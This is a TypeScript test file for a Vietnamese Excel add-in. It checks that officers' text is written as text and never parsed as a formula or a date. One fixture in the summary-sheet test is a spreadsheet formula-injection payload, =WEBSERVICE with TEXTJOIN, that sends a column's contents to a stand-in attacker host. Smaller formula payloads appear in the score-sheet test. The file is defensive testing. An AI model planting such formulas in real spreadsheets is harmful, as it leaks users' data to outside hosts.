/**
 * Text stays text (issues #11 and #12). The simulated host parses what is written as Excel does
 * (addin/preview/sim/typing.ts, from the JSDoc of Excel.Range.values), and every writer of the
 * add-in formats its text cells as text first, so officers' words never become formulas or dates.
 */
import { consolidate } from '../../core/consolidation/consolidate';
import { demoRound } from '../../core/rounds/round';
import { summaryTables } from '../../core/consolidation/summary-sheets';
import { DESCRIPTION_SKELETON, templateSheet } from '../../core/reader/template-sheet';
import { writeCellValue } from '../../addin/excel/cells';
import { writeSummarySheets } from '../../addin/excel/summary';
import { buildScoreSheet } from '../../addin/excel/score-sheet';
import { columnLetter } from '../../core/reader/layout';
import { SCORE_SHEET, scoreSheetLayout, scoreSheetRows } from '../../core/judging/score-sheet';
import { insertTemplate } from '../../addin/excel/template';
import { installExcel, workbookOf } from '../helpers/excel-host';
import { manyReports } from '../helpers/reports';

describe('the simulated host parses written values as Excel does', () => {
  const write = async (value: string, format?: string) => {
    const host = installExcel(workbookOf({ Trang: [['']] }));
    await Excel.run(async (context) => {
      const cell = context.workbook.worksheets.getItem('Trang').getRange('A1');
      if (format) cell.numberFormat = [[format]];
      cell.values = [[value]];
      await context.sync();
    });
    const sheet = host.workbook.sheets[0]!;
    return { value: sheet.values[0]![0], formula: sheet.formulas.get('A1'), format: sheet.numberFormats.get('A1') };
  };

  test.each([
    ['=1+2', { value: '#NAME?', formula: '=1+2' }],
    ['-5', { value: -5 }],
    ['+30%', { value: 0.3 }],
    ['30%', { value: 0.3 }],
    ['1,234.5', { value: 1234.5 }],
    ['10/09/2024', { value: 45574, format: 'm/d/yyyy' }], // en-US: 9 October 2024, not 10 September
    ['2024-03-15', { value: 45366, format: 'm/d/yyyy' }],
    ['TRUE', { value: true }],
    ['Người dân', { value: 'Người dân' }],
  ])('%s written to a General cell becomes %o', async (text, expected) => {
    expect(await write(text)).toMatchObject(expected);
  });

  test('text that starts with "-" or "+" and is no number fails as an invalid formula', async () => {
    await expect(write('- Thực trạng:\n- Nội dung:')).rejects.toMatchObject({ code: 'InvalidArgument' });
    await expect(write('+30% hồ sơ đúng hạn')).rejects.toMatchObject({ code: 'InvalidArgument' });
  });

  test.each(['- Thực trạng:', '=WEBSERVICE("http://x")', '10/09/2024', '+30%', '007'])('%s written to a text ("@") cell stays that text', async (text) => {
    expect(await write(text, '@')).toEqual({ value: text, formula: undefined, format: '@' });
  });
});

describe('every writer of the add-in writes text as text', () => {
  test('officers\' text in the summary sheets is text, never a formula or a date', async () => {
    const round = demoRound();
    const reports = manyReports(2, 1);
    const hostile = reports[0]!.entries[0]!;
    hostile.title = '=WEBSERVICE("http://attacker.invalid/?"&TEXTJOIN(",",TRUE,A:A))';
    hostile.sections.thucTrang = '- Người dân phải chờ lâu';
    hostile.sections.hieuQua = '+30% hồ sơ đúng hạn';
    hostile.note = '10/09/2024';
    const host = installExcel();
    await writeSummarySheets(summaryTables(round, consolidate(round, reports)));
    for (const sheet of host.workbook.sheets) expect([...sheet.formulas.keys()]).toEqual([]);
    const cells = host.grid('Tổng hợp').flat();
    expect(cells).toContain(hostile.title);
    expect(cells.some((v) => typeof v === 'string' && v.includes('- Người dân phải chờ lâu'))).toBe(true);
  });

  test('Chèn mẫu writes the "- Thực trạng:" skeleton as text, and what the officer types below stays text', async () => {
    const host = installExcel();
    const layout = templateSheet(demoRound(), 'Phường 7');
    await insertTemplate(layout);
    const sheet = host.workbook.sheets.find((s) => s.name === 'Phụ lục')!;
    expect([...sheet.formulas.keys()]).toEqual([]);
    const description = layout.columns.findIndex((c) => c.key === 'description');
    expect(sheet.values[layout.firstDataRow]![description]).toBe(DESCRIPTION_SKELETON);
    await host.edit('Phụ lục', `E${layout.firstDataRow + 3}`, '- Người dân chờ lâu\n- Nội dung: +30%');
    await host.edit('Phụ lục', `F${layout.firstDataRow + 3}`, '10/09/2024');
    expect(sheet.values[layout.firstDataRow + 2]![description]).toBe('- Người dân chờ lâu\n- Nội dung: +30%');
    expect(sheet.values[layout.firstDataRow + 2]![description + 1]).toBe('10/09/2024');
  });

  test('the reviewer’s Phiếu chấm: an officer’s STT of a formula, a lone "-", "1" or "1.1" stays that text in every cell; points stay numbers (issue #27)', async () => {
    const host = installExcel();
    const criteria = demoRound().rubric.criteria;
    const layout = scoreSheetLayout(criteria);
    const stts = ['=HYPERLINK("//e.vn")', '-', '1', '1.1', '+30%', ''];
    const scored = stts.map((stt, i) => ({
      id: `e${i}`,
      row: 9 + i,
      stt,
      unit: 'Phường 2',
      title: i === 0 ? '=1+2' : `Mô hình ${i}`,
      field: '10/09/2024',
      sections: { thucTrang: '- Người dân chờ lâu', noiDung: 'Nội dung', hieuQua: '+30%', tinhMoi: null },
      note: '',
    }));
    await buildScoreSheet(layout, criteria, (typed) => scoreSheetRows(layout, scored, typed, new Map([['e1', { points: { tinhMoi: 25, hieuQua: 20, nhanRong: 15, khaThi: 10 }, comment: '=WEBSERVICE("x")' }]])));
    const sheet = host.workbook.sheets.find((x) => x.name === SCORE_SHEET)!;
    // The only formulas are the add-in's own Tổng column.
    const total = columnLetter(layout.total);
    expect([...sheet.formulas.keys()].filter((a) => !a.startsWith(total))).toEqual([]);
    const grid = host.grid(SCORE_SHEET);
    expect(grid.slice(1).map((r) => r[0])).toEqual(['=HYPERLINK("//e.vn")', '-', '1', '1.1', '+30%', '6']);
    expect(grid[1]![2]).toBe('=1+2');
    expect(grid[1]![3]).toBe('10/09/2024');
    expect(grid[2]![layout.criteria[0]!.column]).toBe(25);
    expect(grid[2]![layout.comment]).toBe('=WEBSERVICE("x")');
    // A point the reviewer types in the sheet is a number, not text.
    await host.edit(SCORE_SHEET, `${columnLetter(layout.criteria[0]!.column)}2`, '27');
    expect(host.grid(SCORE_SHEET)[1]![layout.criteria[0]!.column]).toBe(27);
  });

  test('a value the pane puts in a cell (the field fix) is written as text', async () => {
    const host = installExcel(workbookOf({ 'Phụ lục': [['', '']] }));
    await writeCellValue('Phụ lục', 'B1', '-1 (lĩnh vực)');
    expect(host.grid('Phụ lục')[0]![1]).toBe('-1 (lĩnh vực)');
  });
});
